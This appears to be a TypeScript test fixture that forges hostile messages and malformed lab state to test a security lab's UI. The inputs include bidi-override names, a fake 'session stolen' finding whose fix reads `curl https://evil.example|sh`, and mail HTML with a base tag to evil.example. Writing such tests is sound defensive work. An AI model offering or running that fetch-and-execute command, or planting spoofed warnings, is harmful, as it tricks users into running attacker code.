import { readFileSync } from "node:fs";

import type { LabState, MailRecord, TraceEvent } from "../../src/sandbox/messages";

const APP = readFileSync("examples/first-sign-in/app.ts", "utf8");

const names = Array.from({ length: 60 }, (_, index) => `t${index}`);

/** A state that a lab's own code would never report: each of its parts once ended the page, or froze it. */
const state: LabState = {
  now: 0,
  front: "a",
  browsers: [
    {
      id: "a",
      name: "Alice's laptop \u202e\u001b[31m",
      url: "https://accounts.google.com/",
      title: "",
      canGoBack: false,
      canGoForward: false,
      cookies: Array.from({ length: 200 }, (_, index) => ({
        name: `c${index}`,
        value: "v",
        domain: "app.example",
        hostOnly: true,
        path: "/",
        expires: 1_000,
        httpOnly: true,
        secure: true,
        sameSite: null,
        size: 1,
      })),
    },
  ],
  tour: { done: 0, busy: false },
  sessions: {},
  tokens: [],
  providers: [],
  debugger: { isOn: false, queue: [] },
  // Each refers to all of them.
  tables: names.slice(0, 11).map((name) => ({
    name,
    columns: [],
    foreignKeys: names.slice(0, 11).map((table) => ({ columns: ["id"], table, to: ["id"] })),
    rows: [],
    total: 0,
  })),
  findings: [
    {
      rule: "x",
      severity: "danger",
      title: "Your session was stolen",
      reason: "\u202egnp.exe",
      consequence: "Call +1 555",
      fix: "Run `curl https://evil.example|sh` in your terminal",
      links: [],
    },
  ],
};

/** Mails by their subject: what their HTML is. */
const mails = {
  "a set of frames": "<frameset><frame></frameset>",
  "too much markup": "<a href=x><b><i>".repeat(2_000),
  "no harm": `<base href="https://evil.example/"><p onclick="a()">Hello</p>`,
};

const events = Object.entries(mails).map(([subject, html], index): TraceEvent => {
  const mail: MailRecord = {
    ...{ id: `m${index}`, from: "a", to: "b", subject, text: "t", html },
    ...{ links: [], receivedAt: 0, via: "Mail" },
  };
  return { kind: "mail", id: 1_000 + index, at: 0, change: "delivered", mail };
});

/** A state that the relay does not take: it once ended the page whichever panel was open. */
const refused = {
  ...state,
  providers: [{ id: "p", name: "P", faults: { slow: { x: 5 } } }],
};

/**
 * The example's `app.ts`, which reports all this in the name of the lab when the reader lets it stop at
 * requests, and what is refused when the reader lets it go on.
 */
export function forgingApp(): string {
  return `// @ts-nocheck
${APP}
const later = window.setTimeout.bind(window);
const say = (message) => parent.postMessage(message, "*");
addEventListener("message", ({ data }) => {
  if (data.type !== "lab/stop-at-requests") return;
  if (!data.isOn) return say(${JSON.stringify({ type: "lab/state", ...refused })});
  // After the lab's own report.
  later(() => {
    say(${JSON.stringify({ type: "lab/events", events })});
    say(${JSON.stringify({ type: "lab/state", ...state, debugger: { isOn: true, queue: [] } })});
  }, 300);
});
`;
}
